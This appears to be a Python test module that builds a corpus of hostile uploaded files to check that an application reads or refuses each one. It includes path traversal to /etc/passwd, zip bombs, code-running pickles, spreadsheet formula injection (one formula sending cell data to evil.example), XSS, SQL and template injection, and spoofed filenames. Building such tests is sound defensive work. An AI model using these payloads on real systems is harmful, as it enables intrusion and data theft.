"""Files that people hand in, or that models come in: tables, archives, models, case files, and texts in all of them."""

# ruff: noqa: E501 - one attack a line

import gzip
import io
import json
import pickle
import random
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

from tests.attacks.corpus.attack import Attack, Ending, Room
from tests.scanner.zoo import crafted

READ, REFUSED, EITHER = Ending.READ, Ending.REFUSED, Ending.EITHER
NOWHERE = Path("/nonexistent/marker")
LINE = b"http://a/1,Bowl,a.jpg\n"
HEAD = b"url,title,image_url,price\n"


def file(room: Room, name: str, does: str, make: Callable[[], bytes], ending: Ending, says: str = "") -> Attack:
    return Attack(room, name, does, ending, make, says)


# Tables --------------------------------------------------------------------------------------------------------------

table = partial(file, Room.TABLES)
TABLES = (
    table("plain.csv", "is an honest table", lambda: HEAD + LINE, READ),
    table("bytes.csv", "holds bytes that are no text", lambda: HEAD + LINE + b"\xff\xfe\x80,,\n", EITHER, "UTF-8"),
    table("nul.csv", "holds NUL", lambda: HEAD + b"http://a/1,Bo\0wl,a.jpg,\0\n", EITHER, "CSV|Only 0"),
    table("utf-16.csv", "is UTF-16", lambda: (HEAD + LINE).decode().encode("utf-16"), REFUSED, "UTF-8"),
    table("open.csv", "opens a quotation that never ends", lambda: HEAD + b'"' + b"a\n" * 600_000, EITHER, "CSV|Only 0"),
    table("wide.csv", "has 200,000 columns", lambda: HEAD.strip() + b"," * 200_000 + b"\n" + LINE, EITHER),
    table("long.csv", "has a cell of 3 MB", lambda: HEAD + b"http://a/1," + b"x" * 3_000_000 + b",a.jpg\n" + LINE, EITHER, "CSV|Only 0"),
    table("twice.csv", "names a column twice", lambda: b"url,title,image_url,url\n", REFUSED, "twice"),
    table("none.csv", "names no columns", lambda: LINE, REFUSED, "missing"),
    table("nothing.csv", "holds nothing", lambda: b"", REFUSED, "missing"),
    table("outside.csv", "names pictures outside of the inbox", lambda: HEAD + b"http://a/1,Bowl,../../etc/passwd|/etc/shadow|file:///x\n", READ),
    table("formula.csv", "has formulas in each cell", lambda: HEAD + b"http://a/1,=cmd|'/C calc'!A0,@SUM(1),-1\n", READ),
    table("plain.jsonl", "is an honest file", lambda: b'{"url": "http://a/1", "title": "Bowl"}\n', READ),
    table("deep.jsonl", "has 100,000 lists within each other", lambda: b"[" * 100_000 + b"\n" + b'{"url": "http://a/1"}\n', READ),
    table("digits.jsonl", "has a number of 5,000 digits", lambda: b'{"url": "http://a/1", "price": ' + b"9" * 5000 + b"}\n" +
          b'{"url": "http://a/2"}\n', READ),
    table("halves.jsonl", "has halves of letters", lambda: b'{"url": "http://a/\\ud800", "title": "\\udfff", "price": "\\ud800\\u0000"}\n', READ),
    table("numbers.jsonl", "has numbers that are none", lambda: b'{"url": "http://a/1", "price": NaN}\n{"url": "http://a/2", "price": 1e999}\n', READ),
    table("line.jsonl", "has a line of 6 MB", lambda: b'"' + b"x" * 6_000_000 + b'"\n{"url": "http://a/1"}\n', READ),
    table("keys.jsonl", "has 20,000 names that nobody knows", lambda: json.dumps({"url": "http://a/1"} | {f"k{n}\ud800": 1 for n in range(20_000)}).encode(), READ),
    table("odd.jsonl", "has values of other kinds than they should be", lambda: b'{"url": {}, "title": []}\nnull\n1\n"a"\n{"url": "http://a/1"}\n', READ),
)  # fmt: skip

# Archives of pages ---------------------------------------------------------------------------------------------------

PAGE = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Bowl</h1><meta property='og:type' content='product'>"


def record(block: bytes = PAGE, kind: str = "response", length: str | None = None, **more: str) -> bytes:
    named = {"WARC-Type": kind, "WARC-Target-URI": "http://a/1", "WARC-Date": "2026-01-02T03:04:05Z",
             "WARC-Record-ID": "<urn:uuid:1>", "Content-Type": "application/http; msgtype=response",
             "Content-Length": length or str(len(block)), **{key.replace("_", "-"): value for key, value in more.items()}}  # fmt: skip
    head = "".join(f"{key}: {value}\r\n" for key, value in named.items())
    return b"WARC/1.1\r\n" + head.encode("utf-8", "surrogateescape") + b"\r\n" + block + b"\r\n\r\n"


def pack(*records: bytes) -> bytes:
    return b"".join(gzip.compress(one, mtime=0) for one in records)


def revisits(count: int) -> bytes:
    return pack(record(), *(record(b"", "revisit", WARC_Refers_To="<urn:uuid:1>") for _ in range(count)))


archive = partial(file, Room.ARCHIVES)
ARCHIVES = (
    archive("plain.warc", "is an honest archive", record, READ),
    archive("packed.warc.gz", "is an honest archive, packed", lambda: pack(record()), READ),
    archive("cut.warc.gz", "breaks off in its second record", lambda: pack(record(), record())[:-30], READ),
    archive("junk.warc.gz", "has junk between its records", lambda: pack(record()) + b"junk" * 99 + pack(record()), READ),
    archive("nothing.warc", "holds nothing", lambda: b"", EITHER, "WARC|Only 0"),
    archive("page.warc", "is a page", lambda: b"<html><body>", REFUSED, "WARC"),
    archive("length.warc", "has a record of a length that is none", lambda: record(length="ninety") + record(), EITHER, "WARC|Only 0"),
    archive("length-below.warc", "has a record of -5 bytes", lambda: record(length="-5") + record(), EITHER, "WARC|Only 0"),
    archive("length-more.warc", "has a record of 9,999,999,999 bytes", lambda: record(length="9999999999"), EITHER, "WARC|Only 0"),
    archive("headers.warc", "has headers in no alphabet", lambda: record(PAGE.replace(b"Content-Type", b"\xe8\xff\x80-Type", 1)), EITHER, "Only 0"),
    archive("headers-none.warc", "has an answer without a head", lambda: record(b"\r\n\r\n"), EITHER, "WARC|Only 0"),
    archive("status.warc", "has a status of 9,000 digits", lambda: record(PAGE.replace(b"200", b"2" * 9000, 1)), EITHER, "WARC|Only 0"),
    archive("time.warc", "was archived before time began", lambda: record(WARC_Date="0001-01-01T00:00:00+14:00"), READ),
    archive("place.warc", "has an address that is none", lambda: record(WARC_Target_URI="http://[\udcff"), EITHER, "WARC|Only 0"),
    archive("bomb.warc.gz", "unpacks to 128 MiB", lambda: pack(record(PAGE + bytes(128 << 20))), EITHER, "Only 0"),
    archive("chunks.warc", "has chunks of lengths that are none", lambda: record(PAGE.replace(b"Content", b"Transfer-Encoding: chunked\r\nContent", 1)), EITHER, "Only 0"),
    archive("itself.warc.gz", "refers to itself", lambda: pack(record(b"", "revisit", WARC_Refers_To="<urn:uuid:1>")), REFUSED, "Only 0"),
    archive("revisits.warc.gz", "comes back to one answer 300 times", partial(revisits, 300), READ),
)  # fmt: skip

# Models --------------------------------------------------------------------------------------------------------------


def tar(*members: tuple[str, bytes, bytes], mode: str = "w:gz") -> bytes:
    """(name, type, content) of each."""
    target = io.BytesIO()
    packed = gzip.GzipFile(fileobj=target, mode="wb", mtime=0) if mode == "w:gz" else target
    with tarfile.open(fileobj=packed, mode="w") as made:
        for name, kind, content in members:
            info = tarfile.TarInfo(name)
            info.type, info.size, info.linkname = kind, len(content), "/etc/passwd"
            made.addfile(info, io.BytesIO(content))
    packed.close() if mode == "w:gz" else None
    return target.getvalue()


def bundle(*members: tuple[str, bytes], mode: int = 0o100644, way: int = zipfile.ZIP_STORED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", way) as made:
        for name, content in members:
            info = zipfile.ZipInfo(name)
            info.external_attr, info.compress_type = mode << 16, way
            made.writestr(info, content)
    return target.getvalue()


def huge_note() -> bytes:
    """A pickle of a few bytes that has its reader set aside room for two thousand million things."""
    return b"\x80\x02Nr\xff\xff\xff\x7f."


def nested_pickle(depth: int) -> bytes:
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


model = partial(file, Room.MODELS)
MEMBER = tarfile.REGTYPE
MODELS = (
    model("plain.tar.gz", "is an honest archive", lambda: tar(("a/b.txt", MEMBER, b"x")), READ),
    *(
        model(f"{word}.tar.gz", f"holds {what}", partial(tar, ("a", kind, b"")), REFUSED, "link or device|broken")
        for word, what, kind in (
            ("symlink", "a symbolic link", tarfile.SYMTYPE), ("hardlink", "a hard link", tarfile.LNKTYPE),
            ("device", "a device", tarfile.CHRTYPE), ("disk", "a disk", tarfile.BLKTYPE), ("pipe", "a pipe", tarfile.FIFOTYPE),
        )
    ),
    *(
        model(f"outside-{number}.{kind}", f"writes to {name}", partial(make, (name, *more, b"x")), REFUSED, "outside")
        for number, name in enumerate(("../x", "a/../../x", "/tmp/x", "..\\x", "C:\\x", "a/\u2025/../../../x"))
        for kind, make, more in (("tar.gz", tar, (MEMBER,)), ("zip", bundle, ()))
    ),
    model("link.zip", "holds a symbolic link", lambda: bundle(("a", b"/etc/passwd"), mode=0o120777), REFUSED, "link or device"),
    model("bomb.zip", "unpacks to 100 MiB", lambda: bundle(("a", bytes(100 << 20)), way=zipfile.ZIP_DEFLATED), REFUSED, "bomb"),
    model("bomb.tar.gz", "unpacks to 100 MiB", lambda: tar(("a", MEMBER, bytes(100 << 20))), REFUSED, "bomb"),
    model("many.zip", "holds 25,000 files", lambda: bundle(*((f"f{n}", b"") for n in range(25_000))), REFUSED, "bomb"),
    model("folders.tar.gz", "holds a name of 300 folders", lambda: tar(("a/" * 300 + "b", MEMBER, b"x")), EITHER, "."),
    model("name.zip", "holds a file whose name is too long", lambda: bundle(("x" * 300, b"x")), REFUSED, "broken"),
    model("twice.zip", "holds a file that is a folder, too", lambda: bundle(("a", b"x"), ("a/b", b"x")), REFUSED, "broken|exists"),
    model("header.tar.gz", "has a header of 3 MB", lambda: tar(("h", tarfile.XHDTYPE, bytes(3_000_000))), REFUSED, "bomb|no archive"),
    model("cut.tar.gz", "breaks off", lambda: tar(("a", MEMBER, random.Random(1).randbytes(300_000)))[:-9000], REFUSED, "broken"),  # noqa: S311
    model("noise.tar.gz", "is noise", lambda: random.Random(1).randbytes(9000), REFUSED, "no archive"),  # noqa: S311
    *(
        model(f"{craft.__name__}.pdparams", "is a pickle that wants something done", partial(craft, NOWHERE), REFUSED, "refused|no pickle|cut off|.")
        for craft in crafted.REFUSED if craft.__name__ != "numpy_load"
    ),
    model("notes.pdparams", "is a pickle of 9 bytes that wants 32 GB", huge_note, REFUSED, "numbers more things"),
    model("nested.pdparams", "is a pickle of 100,000 lists within each other", partial(nested_pickle, 100_000), REFUSED, "."),
    model("length.pdparams", "says a text of four gigabytes", lambda: b"\x80\x04\x8d" + struct.pack("<Q", 2**32) + b"x.", REFUSED, "cut off|no pickle"),
    model("whole.pdparams", "has no names", lambda: pickle.dumps([1, 2], 2), REFUSED, "no parameters"),
    model("zip.pth", "is a ZIP with no state", lambda: bundle(("a.txt", b"x")), REFUSED, "no state dict"),
    model("data.pth", "is a ZIP whose pickle runs a program", lambda: bundle(("a/data.pkl", crafted.system(NOWHERE))), REFUSED, "names"),
    model("noise.pdmodel", "is noise", lambda: random.Random(2).randbytes(2000), REFUSED, "no program"),  # noqa: S311
    model("names.pdmodel", "has names that are no text", lambda: _program(b"\xff\xfe"), REFUSED, "no program"),
    model("path.pdmodel", "calls a parameter by a path", lambda: _program(b"../../etc/passwd"), REFUSED, "missing|refused|cut off"),
    model("bytes.label_list.txt", "is no UTF-8", lambda: b"\xff\xfe\x00", REFUSED, "UTF-8"),
    model("nothing.label_list.txt", "holds nothing", lambda: b"\n \n", REFUSED, "no labels"),
    model("long.label_list.txt", "is one line of 2 MB", lambda: b"x" * 2_000_000, READ),
    model("deep.card.json", "has 100,000 lists within each other", lambda: b"[" * 100_000, REFUSED, "not a model card"),
    model("range.card.json", "names a range of billions", lambda: b'{"name": "a", "concepts": {"ivory": "0-9999999999"}}', REFUSED, "not a model card"),
)  # fmt: skip


def _program(name: bytes) -> bytes:
    """A program's message with one parameter of that name."""
    desc = b"\x08\x05\x10\x02"
    tensor = b"\x0a" + bytes([len(desc)]) + desc
    kind = b"\x08\x07\x1a" + bytes([len(tensor)]) + tensor
    var = b"\x0a" + bytes([len(name)]) + name + b"\x12" + bytes([len(kind)]) + kind + b"\x18\x01"
    block = b"\x08\0\x10\0\x1a" + bytes([len(var)]) + var
    return b"\x0a" + bytes([len(block)]) + block


# Case files ----------------------------------------------------------------------------------------------------------


case = partial(file, Room.CASES)


def small() -> bytes:
    from tests.webapp.exporters.case_writer import small_case

    return small_case().zip()


def _cut_cases() -> Iterator[Attack]:
    for number in range(12):
        yield case(f"cut-{number:02}.zip", f"ends after {number} twelfths", partial(_part, number / 12), REFUSED)


def _part(share: float) -> bytes:
    return small()[: int(len(small()) * share)]


def _flipped(place: int) -> bytes:
    made = bytearray(small())
    made[place % len(made)] ^= 0x41
    return bytes(made)


def manifest(**said: object) -> bytes:
    return bundle(("manifest.json", json.dumps(said).encode()), ("manifest.sig.json", b"{}"))


CASES = (
    case("plain.zip", "is an honest case file", small, READ),
    *_cut_cases(),
    *(case(f"flipped-{n:02}.zip", f"has one bit changed near byte {n * 997}", partial(_flipped, n * 997), REFUSED) for n in range(12)),
    case("bomb.zip", "unpacks to 100 MiB", lambda: bundle(("manifest.json", bytes(100 << 20)), way=zipfile.ZIP_DEFLATED), REFUSED),
    case("outside.zip", "writes outside of its folder", lambda: bundle(("../x", b"x"), ("/etc/x", b"x")), REFUSED),
    case("twice.zip", "holds one name twice", lambda: bundle(("manifest.json", b"{}"))[:-22] + bundle(("manifest.json", b"[]")), REFUSED),
    case("deep.zip", "has a manifest of 100,000 lists", lambda: bundle(("manifest.json", b"[" * 100_000)), REFUSED),
    case("digits.zip", "has a number of 9,000 digits", lambda: bundle(("manifest.json", b'{"a": ' + b"9" * 9000 + b"}")), REFUSED),
    case("kinds.zip", "has a manifest of wrong kinds", partial(manifest, format="tuskline-case/1", files={"a": 1}, rows=[], case=None), REFUSED),
    case("escapes.zip", "has names that would clear a terminal", lambda: bundle(("\x1b[2J\x07", b"x")), REFUSED),
    case("end.zip", "is the end of a ZIP and nothing else", lambda: b"PK\5\6" + bytes(18), REFUSED),
    case("behind.zip", "has a second case file behind it", lambda: small() + small(), REFUSED),
    case("before.zip", "has a program before it", lambda: b"#!/bin/sh\n" + small(), REFUSED),
    case("nothing.zip", "holds nothing", lambda: b"", REFUSED),
)  # fmt: skip

# Texts ---------------------------------------------------------------------------------------------------------------

WORDS = (
    ("formula", "is a formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("command", "runs a program in old spreadsheets", "=cmd|'/C calc'!A0"),
    ("plus", "is a formula that begins with plus", "+1+cmd|' /C calc'!A0"),
    ("at", "is a formula of another office", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("wide", "is a formula in wide letters", "\uff1d1+1"),
    ("blank", "is a formula behind blanks that nobody sees", "\u200b\u2060 \t=1+1"),
    ("cells", "begins new cells within itself", "a;=1+1\r\n=2+2\t=3+3"),
    ("turned", "turns the line round", "invoice\u202egpj.exe\u2066\u2069"),
    ("zalgo", "has marks on marks on marks", "b" + "\u0300\u0316\u0334" * 2000 + "owl"),
    ("halves", "has letters beyond all planes", "\U0010ffff\ufffe\uffff"),
    ("controls", "has control characters", "a\x00\x07\x1b[31mb\x7f\x85"),
    ("markup", "is markup", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ("rich", "is markup of workbooks", "<r><t>a</t></r>"),
    ("escape", "is an escape of workbooks", "_x0000__x003D_1+1"),
    ("template", "is a template", "{{ 7 * 7 }}{% raw %}%(name)s{0.__class__}$" + "{7*7}"),
    ("sql", "ends a statement", "'; DROP TABLE findings; --"),
    ("long", "is a million letters long", "x" * 1_000_000),
    ("lines", "has lines that are none", "a\u2028b\u2029c\u0085d\u000be"),
)  # fmt: skip
TEXTS = tuple(
    Attack(Room.TEXTS, f"{name}.txt", does, READ, partial(words.encode, "utf-8")) for name, does, words in WORDS
)
ATTACKS = (*TABLES, *ARCHIVES, *MODELS, *CASES, *TEXTS)
